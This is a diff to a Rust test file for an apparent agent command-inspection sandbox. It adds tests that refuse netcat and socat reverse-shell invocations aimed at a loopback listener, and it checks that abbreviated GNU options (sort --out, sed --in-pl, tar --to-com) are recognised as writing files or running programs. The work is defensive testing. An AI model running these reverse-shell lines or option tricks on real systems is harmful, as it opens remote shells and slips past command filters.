@@ -584,7 +584,7 @@ id = "diagnostics"
 action = "allow"
 connections = ["host"]
 principals = ["group:agents"]
-match = { argv = ["ls *", "cat *", "grep *", "find *", "tail *", "tar *", "git *", "less *", "date *", "sed *", "sort *", "test *", "printf *", "read *", "awk *"] }
+match = { argv = ["ls *", "cat *", "grep *", "find *", "tail *", "tar *", "git *", "less *", "date *", "sed *", "sort *", "test *", "printf *", "read *", "awk *", "nc *", "socat *"] }
 "#;
     let a = Airlock::start(&config(&sshd, "", rules)).await;
     let dir = tempfile::tempdir().unwrap();
@@ -599,7 +599,16 @@ match = { argv = ["ls *", "cat *", "grep *", "find *", "tail *", "tar *", "git *
         .to_string_lossy()
         .to_string();
     let pwned = format!("{d}/pwned");
+    // A loopback listener stands in for the attacker's reverse-shell endpoint.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port().to_string();
     let refused = [
+        json!({"argv": ["nc", "-e", "/bin/sh", "127.0.0.1", port]}),
+        json!({"argv": ["nc", "-c", "sh", "127.0.0.1", port]}),
+        json!({"argv": ["nc", "--sh-exec", "sh", "127.0.0.1", port]}),
+        json!({"argv": ["socat", format!("TCP:127.0.0.1:{port}"), "EXEC:/bin/sh"]}),
+        json!({"argv": ["socat", format!("tcp:127.0.0.1:{port}"), "system:sh"]}),
         json!({"argv": ["find", d, "-fprint", pwned]}),
         json!({"argv": ["find", d, "-fprintf", pwned, "%p"]}),
         json!({"argv": ["find", format!("{d}/canary"), "-delete"]}),
@@ -648,6 +657,10 @@ match = { argv = ["ls *", "cat *", "grep *", "find *", "tail *", "tar *", "git *
     assert_eq!(std::fs::read_to_string(&canary).unwrap(), "alive\n");
     let entries: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
     assert_eq!(entries.len(), 1, "no new file may appear: {entries:?}");
+    assert!(
+        listener.accept().is_err(),
+        "nothing may have connected back to the listener"
+    );
     a.stop().await;
 }
 
@@ -717,4 +730,45 @@ async fn root_accounts_and_non_posix_login_shells_are_refused() {
         .expect("a non-POSIX login shell must be refused");
     assert!(why.contains("POSIX"), "{why}");
     let _ = std::fs::remove_file(&shell);
+}
+
+/// The option tables match the real programs: GNU tools take an abbreviated long option as
+/// the option (checked by running them here), and the inspector reads it the same way.
+#[test]
+fn abbreviated_options_mean_to_the_real_programs_what_they_mean_to_the_inspector() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    std::fs::write(d.join("f"), "b\na\n").unwrap();
+    let inspect = |argv: &[&str]| {
+        let argv: Vec<String> = argv.iter().map(|s| s.to_string()).collect();
+        airlock::inspect::shell::inspect_argv(&argv)
+    };
+    let run = |argv: &[&str]| {
+        Command::new(argv[0])
+            .args(&argv[1..])
+            .current_dir(d)
+            .output()
+            .unwrap()
+    };
+    // sort --out=FILE writes FILE.
+    let argv = ["sort", "--out=sorted", "f"];
+    assert!(run(&argv).status.success());
+    assert_eq!(std::fs::read_to_string(d.join("sorted")).unwrap(), "a\nb\n");
+    assert!(!inspect(&argv).effects.is_empty());
+    // sed --in-pl edits in place.
+    let argv = ["sed", "--in-pl", "s/a/c/", "f"];
+    assert!(run(&argv).status.success());
+    assert_eq!(std::fs::read_to_string(d.join("f")).unwrap(), "b\nc\n");
+    assert!(!inspect(&argv).effects.is_empty());
+    // tar --to-com runs a program for every member.
+    assert!(run(&["tar", "-cf", "a.tar", "f"]).status.success());
+    let argv = ["tar", "--to-com=cat > ran", "-xf", "a.tar"];
+    assert!(run(&argv).status.success());
+    assert!(
+        d.join("ran").exists(),
+        "GNU tar took --to-com as --to-command"
+    );
+    assert!(inspect(&argv).wrapper.is_some());
+    // An ambiguous prefix is an error to the program (so counting it costs nothing).
+    assert!(!run(&["tar", "--to", "x", "-xf", "a.tar"]).status.success());
 }
